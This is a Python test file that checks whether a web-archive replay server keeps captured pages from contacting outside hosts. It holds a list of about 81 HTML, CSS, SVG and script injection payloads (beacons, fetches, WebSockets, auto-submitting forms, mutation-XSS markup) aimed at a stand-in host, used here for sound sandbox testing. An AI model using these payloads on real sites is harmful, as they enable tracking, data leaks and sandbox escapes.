"""H2: a replayed page reaches neither us nor the outside: 81 ways to try, in a real browser, clicked on too."""

import contextlib
import hashlib
import io
import os
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from ascertain.collect import collect
from ascertain.integrity import KeyRing, Ledger
from ascertain.model import Capture
from ascertain.preserve import preserve, sealed_captures
from ascertain.storage import BlobVault
from ascertain.web.replaying import Replays
from ascertain.web.serving import DossierServer

# Each is one way for a page to ask for something: {u} is an address outside, {m} one of the desk's own.
WAYS = {
    "script": "<script src='{u}'></script>",
    "inline": "<script>new Image().src='{u}'</script>",
    "fetch": "<script>fetch('{u}',{{mode:'no-cors'}})</script>",
    "fetch desk": "<script>fetch('{m}',{{mode:'no-cors'}})</script>",
    "xhr": "<script>x=new XMLHttpRequest();x.open('GET','{u}');x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{u}','x')</script>",
    "socket": "<script>new WebSocket('{w}')</script>",
    "events": "<script>new EventSource('{u}')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{u}')`])))</script>",
    "opened": "<script>window.open('{u}')</script>",
    "top": "<script>top.location='{u}'</script>",
    "parent": "<script>parent.document.body.innerHTML='<img src={u}>'</script>",
    "self": "<script>location='{u}'</script>",
    "handler": "<img src=x onerror=\"fetch('{u}')\"><body onload=\"fetch('{u}')\">",
    "module": "<script type=module>import '{u}'</script>",
    "rules": "<script type=speculationrules>{{\"prerender\":[{{\"urls\":[\"{u}\"]}}]}}</script>",
    "image": "<img src='{u}'>",
    "set": "<img srcset='{u} 1x, {u}2 2x'>",
    "picture": "<picture><source srcset='{u}'><img src='{u}'></picture>",
    "lazy": "<img loading=eager src='{u}'><img src='{m}'>",
    "input": "<input type=image src='{u}'>",
    "video": "<video autoplay muted src='{u}' poster='{u}p'></video>",
    "audio": "<audio autoplay src='{u}'></audio>",
    "track": "<video src='{u}'><track default src='{u}t'></video>",
    "source": "<video autoplay muted><source src='{u}'></video>",
    "embed": "<embed src='{u}'>",
    "object": "<object data='{u}'></object>",
    "applet": "<applet code='{u}' archive='{u}'></applet>",
    "frame": "<iframe src='{u}'></iframe><iframe src='{m}'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='{u}'><script>fetch('{u}')</script>\"></iframe>",
    "frameset": "<frameset><frame src='{u}'></frameset>",
    "data frame": "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>",
    "portal": "<portal src='{u}'></portal><fencedframe src='{u}'></fencedframe>",
    "sheet": "<link rel=stylesheet href='{u}'>",
    "preload": "<link rel=preload as=image href='{u}'>",
    "prefetch": "<link rel=prefetch href='{u}'>",
    "modulepreload": "<link rel=modulepreload href='{u}'>",
    "prerender": "<link rel=prerender href='{u}'>",
    "icon": "<link rel=icon href='{u}'><link rel='apple-touch-icon' href='{u}'>",
    "manifest": "<link rel=manifest href='{u}'>",
    "preconnect": "<link rel=preconnect href='{u}'><link rel=dns-prefetch href='{u}'>",
    "import": "<style>@import '{u}';@import url({u}2);</style>",
    "ground": "<style>body{{background:url({u})}}p{{background-image:image-set('{u}2' 1x)}}</style>",
    "font": "<style>@font-face{{font-family:x;src:url({u})}}body{{font-family:x}}</style>",
    "escaped url": "<style>body{{background:u\\72l({u})}}p{{list-style:url( '{u}2' )}}</style>",
    "cursor": "<style>body{{cursor:url({u}),auto;border-image:url({u}) 1}}</style>",
    "before": "<style>p::before{{content:url({u})}}</style>",
    "style": "<p style='background:url({u})'>x</p><p style=\"mask-image:url('{u}')\">x</p>",
    "namespace": "<style>@namespace url({u});@import\\20 '{u}';</style>",
    "table": "<table background='{u}'><tr><td background='{u}'>x</table>",
    "body": "<body background='{u}'>",
    "refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "refresh desk": "<meta http-equiv=refresh content='0;url={m}'>",
    "base": "<base href='{u}/'><img src='x.png'><script src='y.js'></script>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri {u}\">",
    "link header": "<meta http-equiv=Link content='<{u}>; rel=preload; as=image'>",
    "form": "<form action='{u}' method=post><input name=x></form><script>document.forms[0].submit()</script>",
    "auto form": "<form action='{u}'><input autofocus onfocus='this.form.submit()'></form>",
    "svg image": "<svg width=90 height=90><image href='{u}' width=90 height=90 /></svg>",
    "svg use": "<svg><use href='{u}#x'/></svg>",
    "svg script": "<svg><script href='{u}'></script><script>fetch('{u}')</script></svg>",
    "svg set": "<svg><image width=9 height=9><set attributeName=href to='{u}' begin=0s /></image></svg>",
    "svg filter": "<svg><filter id=f><feImage href='{u}'/></filter><rect width=90 height=90 filter='url(#f)'/></svg>",
    "svg paint": "<svg><rect width=90 height=90 fill='url({u}#p)'/></svg>",
    "svg style": "<svg><style>@import '{u}';*{{fill:url({u}#a)}}</style><rect width=9 height=9 /></svg>",
    "svg data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>\">",
    "math": "<math><mi href='{u}'>x</mi><mglyph src='{u}'/></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src='{u}' onerror=\"fetch('{u}')\">",
    "comment": "<!--><img src='{u}'>-->",
    "noscript": "<noscript><img src='{u}'></noscript>",
    "template": "<div><template shadowrootmode=open><img src='{u}'></template></div><template><img src='{u}'>",
    "link": "<a id=hit style='font-size:400px' href='{u}'>LINK</a>",
    "link desk": "<a id=hit style='font-size:400px' href='{m}' target=_top>LINK</a>",
    "ping": "<a id=hit style='font-size:400px' href='#a' ping='{u}'>LINK</a>",
    "area": "<img usemap='#m' width=900 height=800><map name=m><area id=hit shape=default href='{u}'></map>",
    "script link": "<a id=hit style='font-size:400px' href=\"javascript:fetch('{u}')\">LINK</a>",
    "button": "<form action='{u}'><button id=hit style='font-size:300px'>GO</button></form>",
    "blank": "<a id=hit style='font-size:400px' href='{u}' target=_blank rel=opener>LINK</a>",
    "download": "<a id=hit style='font-size:400px' href='{u}' download>LINK</a>",
    "label": "<label style='font-size:300px'>GO<input type=submit formaction='{u}' form=f></label><form id=f></form>",
    "details": "<details open ontoggle=\"fetch('{u}')\"><summary>x</summary></details>",
    "keygen": "<isindex action='{u}'><marquee onstart=\"fetch('{u}')\">x</marquee>",
}  # fmt: skip
CONTAINERS = ("html", "mhtml", "warc")


class Outside:
    """Counts the connections that reach an address outside, and those of them over which something is asked."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.count = self.requests = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                made, _ = self._listener.accept()
                self.count += 1
                made.settimeout(0.2)
                with contextlib.suppress(OSError):
                    self.requests += bool(made.recv(4096))
                    made.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1\r\n\r\nx")
                made.close()

    def close(self) -> None:
        self._listener.close()


def page(ways: tuple[str, ...], outside: int, desk: int) -> bytes:
    markup = "\n".join(WAYS[way] for way in ways).format(
        u=f"http://outside.example:{outside}/x",
        w=f"ws://outside.example:{outside}/x",
        m=f"http://127.0.0.1:{desk}/reached",
    )
    return (
        f"<!doctype html><html><head><title>{ways[0]}</title></head><body><p>WORDS</p>{markup}</body></html>".encode()
    )


def contained(content: bytes, container: str, folder: Path) -> Path:
    if container == "html":
        path = folder / "page.html"
        path.write_bytes(content)
    elif container == "mhtml":
        path = folder / "page.mhtml"
        head = (
            "Snapshot-Content-Location: https://radar.example/a\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\n'
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        )
        path.write_bytes(head.encode() + content + b"\r\n--b--\r\n")
    else:
        path = folder / "page.warc.gz"
        path.write_bytes(_warc(content))
    return path


def _warc(content: bytes) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    http = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
    writer = WARCWriter(out, gzip=True)
    record = writer.create_warc_record(
        "https://radar.example/a", "response", payload=io.BytesIO(content), http_headers=http
    )
    writer.write_record(record)
    return out.getvalue()


class Desk:
    """A dossier with one replay, served as `ascertain serve` does; what is asked of its own origin is written down."""

    def __init__(self, capture: Path, folder: Path, port: int = 0) -> None:
        (folder / "dossier").mkdir(parents=True)
        (folder / "dossier/index.html").write_text("<p>account</p>")
        ledger = Ledger(folder / ".ascertain", KeyRing(folder / "keys"), lambda: "2020-05-04T03:02:01Z")
        vault = BlobVault(folder / ".ascertain")
        preserve([one for one in collect([capture]) if isinstance(one, Capture)], vault, ledger, by="desk")
        self.asked: list[str] = []
        self.server = DossierServer(folder / "dossier", port, Replays(vault, sealed_captures(ledger)))
        handler = self.server._server.RequestHandlerClass
        inner = handler.do_GET  # type: ignore[attr-defined]

        def noted(request: Any) -> None:
            self.asked.append(request.path)
            inner(request)

        handler.do_GET = noted  # type: ignore[attr-defined]
        threading.Thread(target=self.server.run, daemon=True).start()
        assert self.server.replays is not None
        (self.digest,) = self.server.replays.digests

    def close(self) -> None:
        self.server.stop()
        self.server.__exit__(None, None, None)


@pytest.fixture(scope="module")
def browser_flags() -> list[str]:
    return ["--host-resolver-rules=MAP outside.example 127.0.0.1"]


@pytest.fixture
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


def looked_at(browser: Any, address: str) -> list[str]:
    """Open an address, let it do what it does, click in the middle of it, and return the addresses of its frames."""
    shown = browser.new_page()
    with contextlib.suppress(Exception):
        shown.goto(address, wait_until="load", timeout=5000)
        for _ in range(50):
            if all(frame.url for frame in shown.frames):
                break
            shown.wait_for_timeout(100)
        shown.wait_for_timeout(150)
        shown.mouse.click(300, 350)
        shown.wait_for_timeout(150)
    framed = [frame.url for frame in shown.frames if frame.parent_frame]
    for one in browser.contexts:
        for other in one.pages:
            other.close()
    return framed


ALONE = frozenset(
    ("frameset", "refresh", "refresh desk", "base", "policy", "mutation", "template", "comment", "link", "link desk",
     "ping", "area", "script link", "button", "blank", "download", "label", "noscript")
)  # fmt: skip
TOGETHER = 11


def chosen() -> list[tuple[tuple[str, ...], str]]:
    """Return every way, eleven to a page where they leave each other alone; in the long run each in each container."""
    if os.environ.get("ASCERTAIN_ATTACKS") == "long":
        return [((way,), container) for way in WAYS for container in CONTAINERS]
    others = [way for way in WAYS if way not in ALONE]
    groups = [tuple(others[start : start + TOGETHER]) for start in range(0, len(others), TOGETHER)]
    groups += [(way,) for way in WAYS if way in ALONE]
    return [(group, CONTAINERS[number % len(CONTAINERS)]) for number, group in enumerate(groups)]


def test_there_are_at_least_75_ways() -> None:
    assert len(WAYS) >= 75


@pytest.mark.parametrize(("ways", "container"), chosen(), ids=lambda one: one if isinstance(one, str) else one[0])
def test_a_replay_reaches_neither_the_desk_nor_the_outside(
    ways: tuple[str, ...], container: str, browser: Any, outside: Outside, tmp_path: Path, record_property: Any
) -> None:
    record_property("cases", len(ways))
    reserved = socket.create_server(("127.0.0.1", 0))
    port = reserved.getsockname()[1]
    reserved.close()
    desk = Desk(contained(page(ways, outside.port, port), container, tmp_path), tmp_path / "case", port)
    try:
        framed = looked_at(browser, f"{desk.server.address}replay/{desk.digest}")
        time.sleep(0.05)
        assert outside.count == 0, ways
        assert set(desk.asked) <= {f"/replay/{desk.digest}", "/assets/site.css", "/favicon.ico"}, desk.asked
        assert desk.server.replays is not None
        assert framed == [f"{desk.server.replays.origin}/{desk.digest}"], "the page is shown, and nothing in its place"
        shown = ask(desk.server.replays.port, f"/{desk.digest}")[2]
        assert b"WORDS" in shown or ways == ("frameset",)
    finally:
        desk.close()


class _Bare(BaseHTTPRequestHandler):
    """Serves a page as it is, as a replay without any fence would be."""

    content = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.content)

    def log_message(self, format: str, *args: object) -> None:
        return


REACHING = (
    "script fetch xhr beacon socket worker opened self module image picture video object frame sheet preload import "
    "ground style refresh form link button ping"
).split()


def reaching() -> list[str]:
    return REACHING if os.environ.get("ASCERTAIN_ATTACKS") == "long" else [*REACHING[::3], "refresh", "ping"]


@pytest.mark.parametrize("way", reaching())
def test_control_the_same_page_as_it_is_reaches_the_outside(way: str, browser: Any, outside: Outside) -> None:
    """Control: without a second origin, sandbox, policy and cleaning, the listener counts."""

    class Bare(_Bare):
        content = page((way,), outside.port, 9)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Bare)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with contextlib.suppress(Exception):
        looked_at(browser, f"http://127.0.0.1:{server.server_port}/")
    for _ in range(40):
        if outside.count:
            break
        time.sleep(0.05)
    server.shutdown()
    assert outside.count, way


def test_policy_and_sandbox_alone_stop_what_was_not_cleaned(
    browser: Any, outside: Outside, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the cleaning switched off, what asks by itself is still refused; a click is what the cleaning is for.

    Chromium opens a connection for a frame before the policy refuses it, and sends nothing over it: so the cleaning,
    which takes frames out, is needed for that too.
    """
    for ways in (tuple(one for one in REACHING if one not in ALONE), ("refresh",)):
        folder = tmp_path / ways[0]
        folder.mkdir()
        raw = page(ways, outside.port, 9)
        desk = Desk(contained(raw, "html", folder), folder / "case")
        monkeypatch.setattr(desk.server.replays, "page", lambda digest, raw=raw: raw)
        try:
            looked_at(browser, f"{desk.server.address}replay/{desk.digest}")
            assert outside.requests == 0, ways
        finally:
            desk.close()


def ask(port: int, path: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
    import http.client

    connection = http.client.HTTPConnection("127.0.0.1", port)
    connection.request("GET", path, headers={"Host": host} if host else {})
    answer = connection.getresponse()
    return answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()


def test_a_replay_is_served_from_another_origin_in_a_sandbox_and_to_our_frame_alone(tmp_path: Path) -> None:
    desk = Desk(contained(page(("image",), 9, 9), "html", tmp_path), tmp_path / "case")
    try:
        assert desk.server.replays is not None
        port = desk.server.replays.port
        status, headers, body = ask(port, f"/{desk.digest}")
        assert status == 200 and b"WORDS" in body and b"outside.example" not in body
        policy = [part.strip() for part in headers["content-security-policy"].split(";")]
        assert "default-src 'none'" in policy and "sandbox" in policy
        assert f"frame-ancestors http://127.0.0.1:{desk.server.port} http://localhost:{desk.server.port}" in policy
        assert port != desk.server.port
        assert ask(port, f"/{desk.digest}", host="evil.example")[0] == 421
        assert ask(port, f"/{'0' * 64}")[0] == 404 and ask(port, "/")[0] == 404
        assert ask(desk.server.port, f"/{desk.digest}")[0] == 404, "our own origin serves no replay"
        framed = ask(desk.server.port, f"/replay/{desk.digest}")[2]
        assert b'sandbox=""' in framed and b"allow-same-origin" not in framed
    finally:
        desk.close()


def test_what_was_captured_with_a_page_is_shown_with_it(tmp_path: Path) -> None:
    import base64

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    (tmp_path / "page_files").mkdir()
    (tmp_path / "page_files/a.png").write_bytes(out.getvalue())
    (tmp_path / "page_files/a.css").write_text("p { color: red; background: url(a.png) }")
    (tmp_path / "page.html").write_text(
        "<link rel=stylesheet href='page_files/a.css'><p>WORDS</p>"
        "<img src='page_files/a.png'><img src='page_files/b.png'>"
    )
    folder = tmp_path / "case"
    ledger = Ledger(folder / ".ascertain", KeyRing(folder / "keys"), lambda: "2020-05-04T03:02:01Z")
    vault = BlobVault(folder / ".ascertain")
    captures = [one for one in collect([tmp_path]) if isinstance(one, Capture)]
    preserve(captures, vault, ledger, by="desk")
    digest = hashlib.sha256((tmp_path / "page.html").read_bytes()).hexdigest()
    shown = Replays(vault, sealed_captures(ledger)).page(digest).decode()
    assert base64.b64encode(out.getvalue()).decode() in shown and "color: red" in shown and "page_files" not in shown


def test_a_hostile_page_that_costs_too_much_is_refused_and_the_server_goes_on(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_bytes(b"<div>" * 190_000 + b"<p>WORDS")
    desk = Desk(tmp_path / "page.html", tmp_path / "case")
    try:
        assert desk.server.replays is not None
        assert ask(desk.server.replays.port, f"/{desk.digest}")[0] in (200, 500)
        assert ask(desk.server.port, "/index.html")[0] == 200
    finally:
        desk.close()
